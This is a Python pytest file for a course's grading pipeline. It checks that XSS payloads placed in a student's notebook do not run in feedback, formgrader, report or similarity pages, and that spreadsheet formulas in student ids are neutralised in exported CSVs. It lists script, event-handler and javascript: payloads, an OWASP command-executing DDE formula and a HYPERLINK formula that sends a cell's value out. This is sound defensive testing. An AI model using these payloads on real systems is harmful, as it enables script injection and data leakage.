"""What a student writes reaches the instructor as text: no page runs it, no spreadsheet computes it.

One class of notebook 01, graded through the real path (``grade_class``): an honest student, a student
whose id is a spreadsheet formula and whose notebook carries script, event-handler and ``javascript:``
payloads in its answers in words, its code, its prints, its HTML, JavaScript, SVG and markdown outputs and
its exception messages, and an honest student whose id is made of HTML. Every page made from
the class (feedback, the formgrader's view of the autograded notebook, the class report, the
similarity pages) is parsed, and every CSV read back.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys
import urllib.request
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook

from quality.attacks import A01
from transformer_course.grading.output.spreadsheet import FORMULA_START, csv_text, original, safe_cell
from transformer_course.grading.run.batch import grade_class
from transformer_course.instructors.report import build_report

from .conftest import GRADING_TIMEOUT
from .test_browser import _jupyter_lab

FORMULA_ID = "=2+5+cmd|' \\C calc'!A0"  # OWASP's example, a folder name a student could hand in
HTML_ID = "<img src=x onerror=alert('xss-id')>"  # no '/': a folder name too
HONEST = "ada"
HYPERLINK = '=HYPERLINK("http://x?leak="&A1,"x")'
MARK = "xss-"  # every payload's alert() names itself with it

# Answers in words: ordinary markdown that must stay working, then the payloads.
ANSWER = """**bold-kept** with $a < b$ inline, `x<0` in code and a [site](https://example.org/kept).

> quoted-kept

- item-kept

| col | val |
|:----|----:|
| cell-kept | 1 |

<script>alert("xss-md-script")</script>

<img src=x onerror=alert("xss-md-img")>

<iframe src="javascript:alert('xss-md-iframe')"></iframe>

[click](javascript:alert('xss-md-link')) and <a href="JaVaScRiPt:alert('xss-md-a')">a link</a>
<svg onload=alert("xss-md-svg")></svg> <details ontoggle=alert("xss-md-details") open>d</details>
"""
OUTPUTS = '''from IPython.display import HTML, SVG, Javascript, Markdown, display
print('<script>alert("xss-print")</script>')
display(HTML('<script>alert("xss-html")</script><img src=x onerror=alert("xss-html-img")><b>html-kept</b>'))
display(Javascript('alert("xss-js")'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert("xss-svg")</script></svg>'))
display(Markdown('<img src=x onerror=alert("xss-mdout")> [x](javascript:alert("xss-mdout-link"))'))
display({"text/html": "<iframe src=\\"javascript:alert('xss-raw')\\"></iframe>", "text/plain": "raw"}, raw=True)
raise ValueError('<script>alert("xss-exc")</script>')
'''


def _hostile(solution: Path) -> nbformat.NotebookNode:
    nb = nbformat.read(solution, as_version=4)
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if cell.cell_type == "markdown" and grade_id and grade_id.startswith("question_"):
            cell.source = ANSWER
        if grade_id == "attention_scores":  # its tests fail with this message, which the CSVs carry
            cell.source = f"def attention_scores(query, key):\n    raise AssertionError({HYPERLINK!r})\n"
        if grade_id == "softmax":  # still correct; the similarity pages show it as handed in
            cell.source += '\n# </pre><script>alert("xss-code")</script><img src=x onerror=alert("xss-code-img")>\n'
    nb.cells.append(nbformat.v4.new_markdown_cell('<script>alert("xss-own-cell")</script> own-cell-kept'))
    nb.cells.append(nbformat.v4.new_code_cell(OUTPUTS))
    return nb


@pytest.fixture(scope="module")
def hostile_class(repo, tmp_path_factory):
    submitted = tmp_path_factory.mktemp("hostile")
    solution = repo.solutions / f"{A01}.ipynb"
    (submitted / HONEST / A01).mkdir(parents=True)
    shutil.copyfile(solution, submitted / HONEST / A01 / f"{A01}.ipynb")
    (submitted / FORMULA_ID / A01).mkdir(parents=True)
    nbformat.write(_hostile(solution), submitted / FORMULA_ID / A01 / f"{A01}.ipynb")
    (submitted / HTML_ID / A01).mkdir(parents=True)
    shutil.copyfile(solution, submitted / HTML_ID / A01 / f"{A01}.ipynb")
    out = tmp_path_factory.mktemp("hostile-out")
    results = grade_class(submitted, out, repo, timeout=GRADING_TIMEOUT, progress=False, workers=1, only=["01"])
    build_report(out)  # the report and its similarity pages, as `transformer-course report` makes them
    return {r.student_id: r for r in results}, out


class _Live(HTMLParser):
    """What in a page could run: scripts (their text and source), event-handler attributes, URLs
    with the javascript: scheme, frames and embedded objects."""

    URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "poster", "background"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.scripts: list[str] = []
        self.handlers: list[tuple[str, str, str]] = []
        self.urls: list[str] = []
        self.frames: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            self._in_script = True
            self.scripts.append(dict(attrs).get("src") or "")
        if tag in ("iframe", "frame", "object", "embed"):
            self.frames.append(tag)
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, name, value or ""))
            if name in self.URL_ATTRIBUTES and "javascript:" in "".join((value or "").split()).lower():
                self.urls.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data


def _live(page: Path, own_handlers: bool = False) -> list[str]:
    """What of the payloads is live in ``page`` (empty: nothing). ``own_handlers``: the page's own
    template has event handlers (formgrader's), which are allowed where they carry no payload."""
    parser = _Live()
    parser.feed(page.read_text())
    found = [f"script {s[:80]!r}" for s in parser.scripts if MARK in s or "alert(" in s]
    found += [f"<{t} {n}={v!r}>" for t, n, v in parser.handlers if not own_handlers or MARK in v or "alert(" in v]
    return found + parser.urls + [f"<{f}>" for f in parser.frames]


def _text(page: Path) -> str:
    parser = HTMLParser(convert_charrefs=True)
    chunks: list[str] = []
    parser.handle_data = chunks.append
    parser.feed(page.read_text())
    return " ".join(chunks)


FORMGRADER_PAGE = """
import sys
from nbconvert.exporters import HTMLExporter
from nbgrader.apps.baseapp import NbGrader
from nbgrader.server_extensions.formgrader import handlers
from traitlets.config import Config

app = NbGrader()
app.initialize([])  # reads ./nbgrader_config.py, as the formgrader does
extra = Config()  # what FormgradeExtension.build_extra_config adds
extra.HTMLExporter.template_name = "formgrade"
extra.HTMLExporter.extra_template_basedirs = [handlers.template_path]
config = app.config
config.merge(extra)
resources = {"assignment_id": sys.argv[2], "notebook_id": sys.argv[2], "submission_id": "1", "index": 0, "total": 1,
             "base_url": "", "student": sys.argv[3], "last_name": None, "first_name": None,
             "notebook_path": "autograded"}  # what formgrader's SubmissionHandler passes
page, _ = HTMLExporter(config=config).from_filename(sys.argv[1], resources=resources)
open(sys.argv[4], "w").write(page)
"""


def formgrader_view(out: Path, student: str, tmp_path: Path) -> Path:
    """The page formgrader serves for grading ``student``'s notebook 01: nbconvert's HTML export of the
    autograded notebook with the formgrade template and the configuration found in ``OUT/nbgrader``."""
    notebook = out / "nbgrader" / "autograded" / student / A01 / f"{A01}.ipynb"
    page = tmp_path / "formgrade.html"
    done = subprocess.run([sys.executable, "-c", FORMGRADER_PAGE, str(notebook), A01, student, str(page)],
                          cwd=out / "nbgrader", capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    return page


def test_the_payloads_reached_the_grader(hostile_class):
    """The attack is real: the autograded notebook holds every payload the pages must not run."""
    _, out = hostile_class
    text = (out / "nbgrader" / "autograded" / FORMULA_ID / A01 / f"{A01}.ipynb").read_text()
    for marker in ("xss-code", "xss-md-script", "xss-md-img", "xss-md-iframe", "xss-md-link", "xss-own-cell",
                   "xss-print", "xss-html", "xss-js", "xss-svg", "xss-mdout", "xss-raw", "xss-exc"):
        assert marker in text, marker


def test_honest_students_keep_their_score_and_the_attacker_gains_nothing(hostile_class):
    results, _ = hostile_class
    for honest in (HONEST, HTML_ID):
        assert results[honest].status == "graded" and results[honest].score == results[honest].max_score == 11
    attacker = results[FORMULA_ID]
    assert attacker.status == "graded"
    scores = {e.exercise: e.score for e in attacker.exercises}
    assert scores["attention_scores"] == 0 and scores["softmax"] == 3 and attacker.score < 11


def test_the_feedback_page_runs_nothing_a_student_wrote(hostile_class):
    """nbgrader's feedback page of the hostile notebook: the answers in words are sanitised markdown (the
    ordinary markdown still renders), outputs are cleaned (no JavaScript, no live HTML or SVG)."""
    _, out = hostile_class
    page = out / "feedback" / FORMULA_ID / A01 / f"{A01}.html"
    assert _live(page) == []
    text, source = _text(page), page.read_text()
    for kept in ("bold-kept", "$a < b$", "x<0", "quoted-kept", "item-kept", "cell-kept", "own-cell-kept",
                 "html-kept"):
        assert kept in text, kept
    assert "<strong>bold-kept</strong>" in source and 'href="https://example.org/kept"' in source
    assert "<blockquote>" in source and "<table>" in source and "<li>item-kept</li>" in source
    assert "xss-print" in text and "xss-exc" in text, "prints and errors are shown, as text"


def test_the_formgrader_view_runs_nothing_a_student_wrote(hostile_class, tmp_path):
    """The page formgrader serves to grade the answers in words, rendered as formgrader renders it."""
    _, out = hostile_class
    page = formgrader_view(out, FORMULA_ID, tmp_path)
    assert _live(page, own_handlers=True) == []
    text = _text(page)
    assert "bold-kept" in text and "$a < b$" in text and "cell-kept" in text


@pytest.fixture(scope="module")
def served(hostile_class, tmp_path_factory):
    """The formgrader's grading page of each student's notebook, as JupyterLab started in ``OUT/nbgrader``
    serves it (the README's way to grade the answers in words): student id -> the page, saved."""
    _, out = hostile_class
    folder = tmp_path_factory.mktemp("served")
    root = out / "nbgrader"
    pages = {}
    with _jupyter_lab(root) as (base, token):
        with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
            ids = {s: gb.find_submission_notebook(A01, A01, s).id for s in (HONEST, FORMULA_ID, HTML_ID)}
        for number, (student, submission) in enumerate(ids.items()):
            url = f"{base}/formgrader/submissions/{submission}?token={token}"
            pages[student] = folder / f"{number}.html"
            pages[student].write_bytes(urllib.request.urlopen(url, timeout=300).read())
    return pages


def test_the_formgrader_serves_nothing_a_student_wrote_live(served):
    """The real formgrader (nbgrader's server extension in JupyterLab), with the configuration it finds in
    ``OUT/nbgrader``: the hostile notebook's grading page runs none of its payloads."""
    assert _live(served[FORMULA_ID], own_handlers=True) == []
    text = _text(served[FORMULA_ID])
    assert "bold-kept" in text and "$a < b$" in text and "html-kept" in text


@pytest.mark.xfail(strict=True, reason="not defended (docs/grader.md): nbgrader's formgrade template writes the "
                   "student id into the page as it is")
def test_a_student_id_made_of_html_is_text_in_the_formgraders_page(served):
    assert _live(served[HTML_ID], own_handlers=True) == []


def test_the_class_report_and_similarity_pages_run_nothing_a_student_wrote(hostile_class):
    _, out = hostile_class
    pages = [out / "report" / "index.html", *sorted((out / "similarity").glob("*.html"))]
    assert len(pages) >= 3, pages  # the report, the similarity index, at least one side-by-side page
    for page in pages:
        assert _live(page) == [], page
    for page in (out / "report" / "index.html", out / "similarity" / "index.html"):
        assert HTML_ID in _text(page) and FORMULA_ID in _text(page), f"{page}: the ids are shown, as text"
    code = [page for page in pages if "xss-code" in _text(page)]
    assert code, "the side-by-side pages show the code as handed in, as text"


def _csvs(out: Path) -> list[Path]:
    found = [out / "grades.csv", out / "exercises.csv", out / "lms.csv", out / "similarity" / "pairs.csv",
             out / "similarity" / "students.csv"]
    assert sorted(found) == sorted(p for p in out.rglob("*.csv") if "nbgrader" not in p.parts), "a CSV not checked"
    return found


def test_no_csv_cell_is_a_formula_and_every_cell_reads_back(hostile_class):
    """OWASP's rule in every CSV: no cell starts with = + - @ tab or CR; the hostile id and the exception
    message read back exactly through spreadsheet.original, and the scores stay numbers."""
    results, out = hostile_class
    seen = set()
    for path in _csvs(out):
        with open(path, newline="") as f:
            rows = list(csv.reader(f))
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_START), f"{path.name}: {cell!r}"
                seen.add(original(cell))
    assert {FORMULA_ID, HTML_ID, HONEST} <= seen
    attacker = {e.exercise: e.feedback for e in results[FORMULA_ID].exercises}
    assert HYPERLINK in attacker["attention_scores"]
    with open(out / "exercises.csv", newline="") as f:
        rows = {(original(r["student_id"]), r["exercise"]): r for r in csv.DictReader(f)}
    assert original(rows[(FORMULA_ID, "attention_scores")]["feedback"]) == attacker["attention_scores"]
    with open(out / "grades.csv", newline="") as f:
        grades = {original(r["student_id"]): r for r in csv.DictReader(f)}
    assert float(grades[HONEST]["score"]) == 11.0 and float(grades[FORMULA_ID]["score"]) == results[FORMULA_ID].score
    with open(out / "lms.csv", newline="") as f:
        lms = list(csv.reader(f))
    for row in lms[1:]:  # every column but the id is a number an LMS imports as one (or empty: not graded)
        assert all(cell == "" or float(cell) >= 0 for cell in row[1:]), row


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("'=1", "''=1"), ("'ok", "''ok"), ("ada", "ada"), ("", ""), ("11", "11"), ("-1.5", "-1.5"),
    ("1e-06", "1e-06"), ("-1e+06", "-1e+06"), ("-inf", "'-inf"), ("-1.5 ", "'-1.5 "), (2.5, 2.5), (None, None),
])
def test_a_cell_is_quoted_where_a_spreadsheet_would_compute_it_and_reads_back(value, written):
    """OWASP's characters get the quote; plain numbers (a negative one too) stay numbers; original() undoes it."""
    assert safe_cell(value) == written
    if isinstance(value, str):
        assert original(written) == value
        assert next(csv.reader(io.StringIO(csv_text([[value]])))) == [written]
